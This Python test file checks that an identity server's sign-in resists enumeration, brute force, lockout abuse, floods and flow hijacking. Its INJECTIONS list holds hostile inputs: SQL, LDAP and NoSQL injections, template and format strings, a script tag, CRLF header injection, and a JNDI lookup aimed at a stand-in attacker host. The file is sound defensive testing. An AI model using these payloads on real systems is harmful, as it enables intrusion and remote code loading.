"""Attacks on signing in: enumeration, guessing, lockout as a weapon, floods, injection."""

import asyncio
import re
import unicodedata
from collections import Counter
from contextlib import AsyncExitStack

import httpx
import msgspec
import pytest

from ostiary.identity import hashing, passwords
from ostiary.identity.passwords import CURRENT, Parameters
from ostiary.login.device import Device, read_device
from ostiary.model.organization import State
from ostiary.model.policy import Configuration
from ostiary.model.user import UserState
from ostiary.oauth.effects import Conflict, Count
from support.instance import (
    CHEAP,
    ENTROPY,
    PASSWORD,
    Browser,
    Instance,
    Recorder,
    hidden,
    open_instance,
)

WRONG = "not the password of anybody"


@pytest.fixture
async def instance(tmp_path):
    async with open_instance(tmp_path) as instance:
        yield instance


@pytest.fixture
def hashed(monkeypatch):
    """The parameters of every hash that is computed."""
    seen: list[Parameters] = []
    verify = passwords.verify_password

    def spy(encoded: str, password: bytes) -> bool:
        seen.append(passwords.read_parameters(encoded))
        return verify(encoded, password)

    monkeypatch.setattr(passwords, "verify_password", spy)
    return seen


async def fail(browser: Browser, username: str = "alice", times: int = 1) -> httpx.Response:
    """Fail to sign in so many times, in one flow."""
    flow = await browser.open_flow()
    for _ in range(times):
        response = await browser.sign_in(username, WRONG, flow=flow)
    return response


def comparable(response: httpx.Response, username: str) -> str:
    """A response without what must differ: the flow, its tokens, the typed name, the trace."""
    text = re.sub(r"flow=\w+", "flow=", response.text)
    text = re.sub(r'name="form_token" value="[^"]+"', "", text)
    text = re.sub(r"challenge&#34;:&#34;[\w-]+", "", text)
    headers = [f"{name}: {value}" for name, value in response.headers.multi_items()]
    headers = [re.sub(r"content-length: .*", "content-length", header) for header in headers]
    return "\n".join([str(response.status_code), *headers, text.replace(username, "NAME")])


async def prepare(instance: Instance, case: str) -> tuple[str, str]:
    """Make a person whose sign-in must fail; return user name and password to try."""
    match case:
        case "unknown":
            return "nobody.here", PASSWORD
        case "wrong password":
            return "alice", WRONG
        case "no password":
            await instance.add_user("bob", password=None)
            return "bob", PASSWORD
        case "unusable hash":
            await instance.add_user("bob", password=None)
            await instance.change(await instance.user("bob"), password_hash="$2b$12$x")
            return "bob", PASSWORD
        case "organization inactive":
            await instance.add_user("bob")
            organization = await instance.store.organization("acme")
            assert organization is not None
            other = msgspec.structs.replace(organization, id="other", state=State.INACTIVE)
            await instance.add(other)
            await instance.change(await instance.user("bob"), organization_id="other")
            return "bob", PASSWORD
        case _:
            await instance.add_user("bob", state=UserState(case))
            return "bob", PASSWORD


CASES = [
    "unknown",
    "wrong password",
    "no password",
    "unusable hash",
    "organization inactive",
    "locked",
    "deactivated",
    "pending",
    "deleted",
]


@pytest.mark.parametrize("case", CASES)
async def test_lo_01_nobody_can_be_told_from_anybody_else(
    instance: Instance, hashed: list[Parameters], case: str
) -> None:
    """Same answer, same statements, same hashing for a failed sign-in, whoever it is for."""
    told = {}
    for name in ("unknown", case):
        username, password = await prepare(instance, name)
        browser = instance.browser()
        flow = await browser.open_flow()
        page = await browser.get(f"/login?flow={flow}")
        recorder = Recorder(instance.store)
        watched = Instance(recorder, CHEAP, dev=False, threads=1)  # type: ignore[arg-type]
        watcher = watched.browser()
        watcher.http.cookies = browser.http.cookies
        hashed.clear()
        filled = {**hidden(page), "username": username, "password": password}
        response = await watcher.post(f"/login?flow={flow}", filled)
        watched.pool.close()
        told[name] = (comparable(response, username), recorder.calls, list(hashed))
    assert told[case] == told["unknown"]
    assert told[case][2] == [CHEAP]
    assert "Set-Cookie" not in told[case][0]


async def test_lo_01_unknown_people_cost_a_hash_with_todays_parameters(tmp_path, hashed) -> None:
    async with open_instance(tmp_path, parameters=CURRENT) as instance:
        await fail(instance.browser(), "nobody")
        await fail(instance.browser(), "alice")
    assert hashed == [CURRENT, CURRENT]


async def test_lo_02_throttling_is_the_same_for_unknown_names(instance: Instance) -> None:
    courses = {}
    for username in ("alice", "nobody"):
        browser, course = instance.browser(), []
        for seconds in [0] * 7 + [1, 2, 4, 8, 16, 16, 900, 1]:
            instance.clock.time += seconds
            response = await fail(browser, username)
            course.append((response.status_code, response.headers.get("retry-after")))
        courses[username] = course
    assert courses["alice"] == courses["nobody"]
    assert Counter(status for status, _ in courses["alice"])[429] >= 4


@pytest.mark.parametrize("hint", ["alice", "alice@acme.test", "nobody"])
async def test_lo_02_a_login_hint_is_only_repeated(instance: Instance, hint: str) -> None:
    browser = instance.browser()
    flow = await browser.open_flow(login_hint=hint)
    page = await browser.get(f"/login?flow={flow}")
    assert f'value="{hint}"' in page.text
    assert "Alice" not in page.text


@pytest.mark.parametrize("hint", ["x" * 300, "a\u0000b", "a\nb", "\u202ealice"])
async def test_a_login_hint_that_is_no_name_is_ignored(instance: Instance, hint: str) -> None:
    browser = instance.browser()
    flow = await browser.open_flow(login_hint=hint)
    page = await browser.get(f"/login?flow={flow}")
    assert 'name="username" type="text" value=""' in page.text


@pytest.mark.parametrize(
    "spelling",
    ["ALICE", " alice\t", "alice@acme.test", "Alice@ACME.test", "ali\u200bce", "\uff41lice"],
)
async def test_lo_04_spellings_share_one_counter(instance: Instance, spelling: str) -> None:
    await fail(instance.browser(), "alice", 5)
    assert (await fail(instance.browser(), spelling)).status_code == 429


@pytest.mark.parametrize("spelling", ["ALICE", " alice@acme.test ", "Ali\u00adce"])
async def test_lo_04_any_spelling_signs_in(instance: Instance, spelling: str) -> None:
    assert (await instance.browser().sign_in(spelling)).status_code == 303


async def test_lo_05_no_stranger_locks_the_owner_out(instance: Instance) -> None:
    home = instance.browser()
    assert (await home.sign_in()).status_code == 303
    for _ in range(130):
        instance.clock.time += 901
        await fail(instance.browser(ip="198.51.100.7"))
    stranger = await instance.browser(ip="198.51.100.7").sign_in()
    assert stranger.status_code == 429
    assert "retry-after" not in stranger.headers
    assert (await home.sign_in()).status_code == 303
    assert (await fail(home)).status_code == 403


async def test_lo_05_a_crowded_address_does_not_keep_known_devices_out(instance) -> None:
    home = instance.browser()
    await home.sign_in()
    for number in range(40):
        await fail(instance.browser(), f"somebody-{number}")
    assert (await instance.browser().sign_in()).status_code == 429
    assert (await home.sign_in()).status_code == 303


async def test_lo_05_a_made_up_device_is_no_known_one(instance: Instance) -> None:
    await instance.browser().sign_in()
    await fail(instance.browser(), times=9)
    mallory = instance.browser()
    await instance.add_user("mallory")
    await mallory.sign_in("mallory")
    stolen = read_device(mallory.http.cookies["__Host-ostiary_device"])
    assert stolen is not None
    forged = Device(stolen.id, (msgspec.structs.replace(stolen.visits[0], at=9_999_999_999),))
    for cookie in (stolen.cookie(), forged.cookie(), "x", "x.1~1-y", ""):
        attacker = instance.browser()
        attacker.http.cookies.set("__Host-ostiary_device", cookie, domain="id.test", path="/")
        assert (await fail(attacker)).status_code == 429


async def test_lo_05_a_known_device_ends_with_a_change_of_the_password(instance) -> None:
    thief = instance.browser()
    await thief.sign_in()
    instance.clock.time += 10
    await instance.change(await instance.user("alice"), credentials_changed_at=instance.clock.time)
    await fail(instance.browser(), times=9)
    assert (await fail(thief)).status_code == 429


async def test_lo_05_a_stolen_device_gets_a_hundred_guesses(instance: Instance, hashed) -> None:
    thief = instance.browser()
    await thief.sign_in()
    hashed.clear()
    for _ in range(130):
        instance.clock.time += 61
        await fail(thief)
    # A hundred as a known device, then those of any unknown one.
    assert 100 < len(hashed) <= 115


async def test_waits_grow_and_are_told(instance: Instance) -> None:
    browser = instance.browser()
    assert (await fail(browser, times=5)).status_code == 403
    for wait, said in ((1, "1 second"), (2, "2 seconds"), (4, "4 seconds")):
        response = await browser.sign_in()
        assert response.status_code == 429
        assert response.headers["retry-after"] == str(wait)
        assert f"Wait {said}, then try again" in response.text
        instance.clock.time += wait
        assert (await fail(browser)).status_code == 403
    instance.clock.time += 8
    assert (await browser.sign_in()).status_code == 303


async def test_a_throttled_try_costs_no_hash(instance: Instance, hashed) -> None:
    await fail(instance.browser(), times=5)
    hashed.clear()
    assert (await instance.browser().sign_in()).status_code == 429
    assert hashed == []


async def test_success_forgives_the_failures_before_it(instance: Instance) -> None:
    browser = instance.browser()
    for _ in range(4):
        assert (await fail(browser, times=4)).status_code == 403
        assert (await browser.sign_in()).status_code == 303


async def test_parallel_guesses_cannot_pass_the_limit(instance: Instance, hashed) -> None:
    """CVE-2024-4629: the count is committed before the hash is computed."""
    browsers = [instance.browser(ip=f"198.51.100.{n}") for n in range(30)]
    flows = [await browser.open_flow() for browser in browsers]
    responses = await asyncio.gather(
        *(
            browser.sign_in("alice", WRONG, flow=flow)
            for browser, flow in zip(browsers, flows, strict=True)
        )
    )
    assert len(hashed) == 5
    assert Counter(response.status_code for response in responses) == {403: 5, 429: 25}


async def test_of_parallel_guesses_after_a_wait_one_is_let_in(instance, hashed) -> None:
    await fail(instance.browser(), times=5)
    instance.clock.time += 1
    hashed.clear()
    browsers = [instance.browser(ip=f"198.51.100.{n}") for n in range(12)]
    flows = [await browser.open_flow() for browser in browsers]
    responses = await asyncio.gather(
        *(
            browser.sign_in("alice", WRONG, flow=flow)
            for browser, flow in zip(browsers, flows, strict=True)
        )
    )
    assert len(hashed) == 1
    assert Counter(response.status_code for response in responses) == {403: 1, 429: 11}


async def test_who_loses_the_race_to_try_twice_waits_a_second(instance, hashed) -> None:
    class Contended(Recorder):
        async def apply(self, effects) -> None:
            if isinstance(effects[0], Count):
                raise Conflict(effects[0])
            await super().apply(effects)

    browser = instance.browser()
    flow = await browser.open_flow()
    page = await browser.get(f"/login?flow={flow}")
    store = Contended(instance.store)
    contended = Instance(store, CHEAP, dev=False, threads=1)  # type: ignore[arg-type]
    other = contended.browser()
    other.http.cookies = browser.http.cookies
    fields = {**hidden(page), "username": "alice", "password": PASSWORD}
    response = await other.post(f"/login?flow={flow}", fields)
    contended.pool.close()
    assert response.status_code == 429
    assert response.headers["retry-after"] == "1"
    assert hashed == []


async def test_an_address_fails_thirty_times_a_minute(instance: Instance, hashed) -> None:
    async def spray(ip: str, number: int) -> int:
        return (await fail(instance.browser(ip=ip), f"user-{number}")).status_code

    statuses = [await spray("2001:db8::1", number) for number in range(15)]
    statuses += [await spray("2001:db8::ffff", number) for number in range(15, 30)]
    assert set(statuses) == {403}
    limited = await fail(instance.browser(ip="2001:db8::2"), "user-99")
    assert limited.status_code == 429
    assert "from your network" in limited.text
    assert await spray("2001:db8:0:1::1", 99) == 403
    instance.clock.time += 60
    assert await spray("2001:db8::1", 100) == 403


async def test_own_successes_do_not_buy_an_address_more_guesses(instance: Instance) -> None:
    await instance.add_user("mallory")
    for number in range(30):
        await fail(instance.browser(), f"user-{number}")
        if number % 10 == 0:
            instance.browser()
            await instance.browser(ip="192.0.2.1").sign_in("mallory")
    assert (await fail(instance.browser(), "user-99")).status_code == 429


async def test_in_development_loopback_is_not_limited(tmp_path) -> None:
    async with open_instance(tmp_path, dev=True) as instance:
        for number in range(35):
            response = await fail(instance.browser(ip="127.0.0.1"), f"user-{number}")
            assert response.status_code == 403
        for number in range(35):
            response = await fail(instance.browser(ip="192.0.2.9"), f"user-{number}-b")
        assert response.status_code == 429


async def test_the_lockout_policy_counts(instance: Instance) -> None:
    configuration = Configuration(policies={"lockout": {"free_attempts": 2}})
    stored = await instance.store.configuration()
    await instance.change(stored, policies=configuration.policies)
    assert (await fail(instance.browser(), times=2)).status_code == 403
    assert (await fail(instance.browser())).status_code == 429


@pytest.mark.parametrize(
    "password", ["x" * 257, "x" * 1025, "\N{GRINNING FACE}" * 4096, "x" * 60_000]
)
async def test_lo_07_a_password_too_long_is_refused_before_it_is_hashed(
    instance: Instance, hashed, password: str
) -> None:
    browser = instance.browser()
    flow = await browser.open_flow()
    response = await browser.sign_in(password=password, flow=flow)
    assert response.status_code in {400, 413}
    assert hashed == []
    assert (await browser.sign_in(flow=flow)).status_code == 303


@pytest.mark.parametrize("name", ["a" + "\u0301\u0316" * 5_000, "x" * 1017])
async def test_do_04_a_user_name_too_long_is_refused_before_it_is_folded(
    instance: Instance, hashed, monkeypatch, name: str
) -> None:
    """Putting thousands of accents in order would hold up everybody else for seconds."""
    lengths: list[int] = []
    normalize = unicodedata.normalize
    monkeypatch.setattr(
        unicodedata,
        "normalize",
        lambda form, text: lengths.append(len(text)) or normalize(form, text),
    )
    response = await instance.browser().sign_in(name)
    assert response.status_code == 400
    assert max(lengths, default=0) < 1017
    assert hashed == []


@pytest.mark.parametrize("size", [70_000, 1_000_000])
async def test_lo_07_a_body_too_large_is_refused(instance: Instance, hashed, size: int) -> None:
    response = await instance.browser().sign_in(password="x" * size)
    assert response.status_code == 413
    assert hashed == []


async def test_lo_08_who_finds_the_pool_full_is_told_to_come_back(
    instance: Instance, hashed, monkeypatch
) -> None:
    monkeypatch.setattr(hashing, "MAX_WAIT_SECONDS", 0.0)
    browser = instance.browser()
    flow = await browser.open_flow()
    async with AsyncExitStack() as held:
        for _ in range(2 + hashing._PREPARING):
            await held.enter_async_context(instance.pool.slot())
        response = await browser.sign_in(flow=flow)
    assert response.status_code == 503
    assert response.headers["retry-after"] == "3"
    assert "Many people are signing in right now" in response.text
    assert hashed == []
    assert await instance.store.usage(("login:user-alice",)) == {}
    monkeypatch.undo()
    assert (await browser.sign_in(flow=flow)).status_code == 303


INJECTIONS = [
    "*)(uid=*))(|(uid=*",
    "\\2a",
    "' OR '1'='1",
    '"; DROP TABLE users; --',
    '{"$ne": 1}',
    "{0}{username}",
    "%s%n%x",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "alice\r\nSet-Cookie: x=1",
    "%00alice",
    "\u202ealice\ud7ff",
    "a" * 254 + "b" * 9000,
]


@pytest.mark.parametrize("text", INJECTIONS)
async def test_lo_10_injections_are_names_that_nobody_has(instance: Instance, text: str) -> None:
    browser = instance.browser()
    response = await browser.sign_in(text, text)
    assert response.status_code in {400, 403}
    assert "<script>alert" not in response.text
    assert "x=1" not in response.headers.get("set-cookie", "")
    assert (await browser.sign_in()).status_code == 303


@pytest.mark.parametrize(
    "fields",
    [
        {"username": "", "password": ""},
        {"username": "   ", "password": PASSWORD},
        {"username": "alice", "password": ""},
    ],
)
async def test_an_empty_form_says_what_is_missing(instance: Instance, hashed, fields) -> None:
    response = await instance.browser().sign_in(**fields)
    assert response.status_code == 400
    assert "Enter your username or email and your password" in response.text
    assert hashed == []


async def test_lo_11_a_flow_is_good_in_its_own_browser_only(instance: Instance) -> None:
    victim, mallory = instance.browser(), instance.browser()
    flow = await mallory.open_flow()
    await victim.open_flow()
    stranger = instance.browser()
    for browser in (victim, stranger):
        page = await browser.get(f"/login?flow={flow}")
        assert page.status_code == 403
        assert "belongs to another browser" in page.text
        assert "<form" not in page.text
    token = hidden(await mallory.get(f"/login?flow={flow}"))
    response = await victim.post(
        f"/login?flow={flow}", {**token, "username": "alice", "password": PASSWORD}
    )
    assert response.status_code == 403
    assert not await victim.sessions()
    assert not await mallory.sessions()


async def test_the_password_changes_while_it_is_checked(instance: Instance, monkeypatch) -> None:
    verify = passwords.verify_password
    changed = asyncio.Event()
    loop = asyncio.get_running_loop()

    async def change() -> None:
        alice = await instance.user("alice")
        now = instance.clock.time
        new = passwords.hash_password(b"something else", ENTROPY, CHEAP)
        await instance.change(alice, password_hash=new, credentials_changed_at=now)
        changed.set()

    def slow(encoded: str, password: bytes) -> bool:
        asyncio.run_coroutine_threadsafe(change(), loop).result(5)
        return verify(encoded, password)

    monkeypatch.setattr(passwords, "verify_password", slow)
    browser = instance.browser()
    response = await browser.sign_in()
    assert changed.is_set()
    assert response.status_code == 403
    assert not await browser.sessions()
    (failure,) = await instance.events("auth.login.failure")
    assert failure.reason == "credentials_changed"


async def test_an_outgrown_hash_is_renewed_at_sign_in(instance: Instance) -> None:
    weak = passwords.hash_password(PASSWORD.encode(), ENTROPY, Parameters(memory=32, passes=1))
    await instance.change(await instance.user("alice"), password_hash=weak)
    await fail(instance.browser())
    assert (await instance.user("alice")).password_hash == weak
    assert (await instance.browser().sign_in()).status_code == 303
    renewed = await instance.user("alice")
    assert renewed.password_hash is not None
    assert passwords.read_parameters(renewed.password_hash) == CHEAP
    assert renewed.credentials_changed_at == 0
    assert (await instance.browser().sign_in()).status_code == 303


async def test_o5_failures_are_in_the_audit_trail(instance: Instance) -> None:
    await instance.add_user("bob", state=UserState.DEACTIVATED)
    await fail(instance.browser(), "alice")
    await instance.browser().sign_in("bob")
    await fail(instance.browser(), "nobody")
    alice, bob, nobody = await instance.events("auth.login.failure")
    assert (alice.reason, alice.user_id, alice.client_id) == (
        "wrong_password",
        "user-alice",
        "shop",
    )
    assert (bob.reason, bob.user_id) == ("user_deactivated", "user-bob")
    assert (nobody.reason, nobody.user_id) == ("unknown_user", None)
    assert all(event.ip == "192.0.2.1" and event.trace_id for event in (alice, bob, nobody))


async def test_o5_a_lock_is_told_once(instance: Instance) -> None:
    for _ in range(14):
        instance.clock.time += 901
        await fail(instance.browser())
    (locked,) = await instance.events("auth.locked")
    assert locked.user_id == "user-alice"


async def test_lx_02_a_password_typed_as_a_name_is_kept_nowhere(tmp_path, caplog) -> None:
    secret = "my-Secret-Passphrase-42"
    async with open_instance(tmp_path) as instance:
        response = await instance.browser().sign_in(secret, secret)
        assert response.status_code == 403
        (failure,) = await instance.events("auth.login.failure")
        assert failure.target is not None
        assert failure.target.startswith("unknown-")
    stored = b"".join(file.read_bytes() for file in tmp_path.iterdir())
    assert b"auth.login.failure" in stored
    for spelling in (secret, secret.lower()):
        assert spelling.encode() not in stored
        assert spelling not in caplog.text


async def test_lx_01_no_secret_of_a_sign_in_is_stored_or_logged(tmp_path, caplog, capfd) -> None:
    async with open_instance(tmp_path) as instance:
        browser = instance.browser()
        flow = await browser.open_flow()
        before = browser.cookie
        token = hidden(await browser.get(f"/login?flow={flow}"))["form_token"]
        assert (await browser.sign_in(flow=flow)).status_code == 303
        secrets = [PASSWORD, flow, before, browser.cookie, token]
        secrets.append(browser.http.cookies["__Host-ostiary_device"])
    stored = b"".join(file.read_bytes() for file in tmp_path.iterdir())
    logged = caplog.text + "".join(capfd.readouterr())
    for secret in secrets:
        assert secret
        assert secret.encode() not in stored
        assert secret not in logged
